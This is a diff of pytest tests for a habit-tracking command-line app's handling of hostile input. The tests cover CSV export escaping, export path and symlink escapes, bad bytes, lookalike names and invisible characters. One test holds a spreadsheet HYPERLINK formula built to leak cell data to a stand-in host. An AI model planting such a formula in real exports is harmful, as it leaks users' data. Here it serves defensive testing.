@@ -250,7 +250,7 @@ def test_export_never_overwrites_pauses_own_files(run, pause_home: AppPaths, nam
     run("activity", "add", "Steps inside", "--unit", "steps", "--target", "50")
     before = pause_home.database.read_bytes()
     code, _, err = run("export", "-o", str(pause_home.data_dir / name))
-    assert code == 2 and "own files" in err
+    assert code == 2 and "own folders" in err
     assert pause_home.database.read_bytes() == before
 
 
@@ -463,3 +463,160 @@ def test_an_activity_can_start_from_a_week_of_logs(run) -> None:
     assert (answer["target"], answer["offer"], answer["reason"]) == (0, 16, "offer")
     assert run("accept", "Reading")[0] == 0
     assert _export(run)["activities"][0]["target"] == 16
+
+
+# Issue 12: hostile input and exports.
+
+
+def test_a_csv_export_keeps_a_formula_in_a_note_as_text(run, tmp_path: Path) -> None:
+    """Hole 1: the note of the issue would be a live link in a spreadsheet."""
+    note = '=HYPERLINK("http://example.invalid/?leak="&D2,"click me")'
+    run("activity", "add", "Walk", "--unit", "=1+1", "--target", "5")
+    assert run("log", "Walk", "5", "--felt", "ok", "--note", note)[0] == 0
+    assert run("export", "--format", "csv", "-o", str(tmp_path / "csv"))[0] == 0
+    import csv
+
+    with (tmp_path / "csv" / "attempts.csv").open(newline="", encoding="utf-8") as handle:
+        [attempt] = list(csv.DictReader(handle))
+    assert attempt["note"] == "'" + note
+    with (tmp_path / "csv" / "activities.csv").open(newline="", encoding="utf-8") as handle:
+        [activity] = list(csv.DictReader(handle))
+    assert activity["unit"] == "'=1+1"
+    assert _export(run)["attempts"][0]["note"] == note  # the JSON stays exact
+
+
+@pytest.mark.parametrize(
+    "where",
+    [
+        "pause.corrupt-20260301-101010.sqlite3",
+        "settings.json.bak",
+        "logs/pause.log.1",
+        "a-new-name.json",
+        "logs",
+        ".",
+    ],
+)
+def test_export_goes_nowhere_in_pauses_own_folders(run, pause_home: AppPaths, where: str) -> None:
+    """Hole 3: not a list of names: every place inside the data, config and log folders."""
+    run("activity", "add", "Walk", "--unit", "minutes", "--target", "5")
+    (pause_home.data_dir / "pause.corrupt-20260301-101010.sqlite3").write_bytes(b"kept")
+    (pause_home.config_dir / "settings.json.bak").write_bytes(b"{}")
+    (pause_home.log_dir / "pause.log.1").write_bytes(b"old log")
+    before = _snapshot(pause_home.data_dir)
+    for fmt in ("json", "csv"):
+        code, out, err = run("export", "--format", fmt, "-o", str(pause_home.data_dir / where))
+        assert (code, out) == (2, "")
+        assert err.count("\n") == 1 and "is in Pause's own folders" in err
+    assert _snapshot(pause_home.data_dir) == before
+
+
+def test_export_through_a_link_into_the_data_folder_is_refused(
+    run, pause_home: AppPaths, tmp_path: Path
+) -> None:
+    run("activity", "add", "Walk", "--unit", "minutes", "--target", "5")
+    kept = pause_home.data_dir / "pause.corrupt-20260301-101010.sqlite3"
+    kept.write_bytes(b"kept")
+    link = tmp_path / "innocent"
+    link.symlink_to(pause_home.data_dir)
+    (tmp_path / "file-link.json").symlink_to(kept)
+    for target in (link / kept.name, link / "new.json", tmp_path / "file-link.json"):
+        code, _, err = run("export", "-o", str(target))
+        assert code == 2 and "own folders" in err
+    assert kept.read_bytes() == b"kept"
+
+
+@pytest.mark.parametrize(
+    ("argv", "message"),
+    [
+        (("export", "-o", ""), "-o needs a file name"),
+        (("export", "-o", "   "), "-o needs a file name"),
+        (("export", "--format", "csv", "-o", ""), "CSV export needs a folder"),
+        (("--data-dir", "", "activity", "list"), "--data-dir needs the name of a folder"),
+        (("--data-dir", "", "pause"), "--data-dir needs the name of a folder"),
+        (("--data-dir", ""), "--data-dir needs the name of a folder"),
+        (("--data-dir", "~nobody-here-at-all", "export"), "--data-dir needs the name of a folder"),
+        (("activity", "list", "--data-dir"), "unrecognized arguments: --data-dir"),
+        (("--data-dir",), "expected one argument"),
+    ],
+)
+def test_an_empty_name_is_refused_not_taken_as_the_usual_place(
+    run, tmp_path: Path, argv, message
+) -> None:
+    code, out, err = run(*argv)
+    assert (code, out) == (2, "")
+    assert err.count("\n") == 1 and message in err
+    assert not (tmp_path / "home").exists()  # the platform's folders were not made
+
+
+def test_export_to_a_folder_as_json_or_to_a_file_as_csv_is_refused(run, tmp_path: Path) -> None:
+    (tmp_path / "a-file").write_text("mine")
+    code, _, err = run("export", "-o", str(tmp_path))
+    assert code == 2 and "is a folder" in err
+    code, _, err = run("export", "--format", "csv", "-o", str(tmp_path / "a-file"))
+    assert code == 2 and "is a file" in err
+    assert (tmp_path / "a-file").read_text() == "mine"
+
+
+NOT_TEXT = "this contains bytes that are not text (UTF-8); please type it again."
+
+
+def test_bytes_that_are_not_utf8_get_one_line_not_a_traceback(run, pause_home: AppPaths) -> None:
+    """Hole 10: from a terminal, such bytes reach Python as lone surrogates."""
+    run("activity", "add", "Walk", "--unit", "minutes", "--target", "5")
+    before = _snapshot(pause_home.data_dir)
+    latin1 = b"caf\xe9".decode("utf-8", "surrogateescape")
+    for argv, field in (
+        (("log", "Walk", "5", "--felt", "ok", "--note", latin1), "Note"),
+        (("activity", "add", latin1, "--unit", "minutes", "--target", "5"), "Name"),
+        (("activity", "add", "Read", "--unit", latin1, "--target", "5"), "Unit"),
+        (("log", latin1, "5", "--felt", "ok"), "Name"),
+    ):
+        code, out, err = run(*argv)
+        assert (code, out) == (2, "")
+        assert err == f"pause-app: {field}: {NOT_TEXT}\n"
+    assert _snapshot(pause_home.data_dir) == before
+
+
+@pytest.mark.parametrize(
+    ("name", "existing"),
+    [("\uff37alk", "Walk"), ("WALK", "Walk"), ("walk ", "Walk"), ("Cafe\u0301", "Café")],
+)
+def test_a_name_that_looks_like_another_is_refused_naming_it(run, name, existing) -> None:
+    run("activity", "add", existing, "--unit", "minutes", "--target", "5")
+    code, _, err = run("activity", "add", name, "--unit", "minutes", "--target", "5")
+    assert code == 2
+    assert err == f"pause-app: Name: there is already an activity called “{existing}”.\n"
+    assert [a["name"] for a in _export(run)["activities"]] == [existing]
+
+
+@pytest.mark.parametrize("hidden", ["\u200b", "\u202e", "\ufeff", "\x1b[2J"])
+def test_an_invisible_character_in_a_name_is_refused(run, pause_home: AppPaths, hidden) -> None:
+    code, _, err = run("activity", "add", f"Wa{hidden}lk", "--unit", "minutes", "--target", "5")
+    assert code == 2 and "invisible or control characters" in err
+    assert not pause_home.data_dir.exists()
+
+
+def test_a_decomposed_name_is_stored_composed(run) -> None:
+    run("activity", "add", "Cafe\u0301 walk", "--unit", "minutes", "--target", "5")
+    assert _export(run)["activities"][0]["name"] == "Café walk"
+    assert run("log", "Cafe\u0301 walk", "5", "--felt", "ok")[0] == 0
+
+
+@pytest.mark.parametrize(
+    "argv",
+    [
+        ("log", "Walk", "5", "--felt", "ok"),
+        ("offer", "Walk"),
+        ("activity", "add", "Walk outside", "--from", "Walk"),
+    ],
+)
+def test_a_refused_command_on_a_missing_folder_leaves_it_missing(run, tmp_path: Path, argv) -> None:
+    """Hole 11: good input about an activity that cannot be there creates nothing."""
+    folder = tmp_path / "not-yet"
+    code, _, err = run("--data-dir", str(folder), *argv)
+    assert code == 2 and "no activity called “Walk”" in err
+    assert not folder.exists()
+
+
+def _snapshot(folder: Path) -> dict[str, bytes]:
+    return {str(p.relative_to(folder)): p.read_bytes() for p in folder.rglob("*") if p.is_file()}
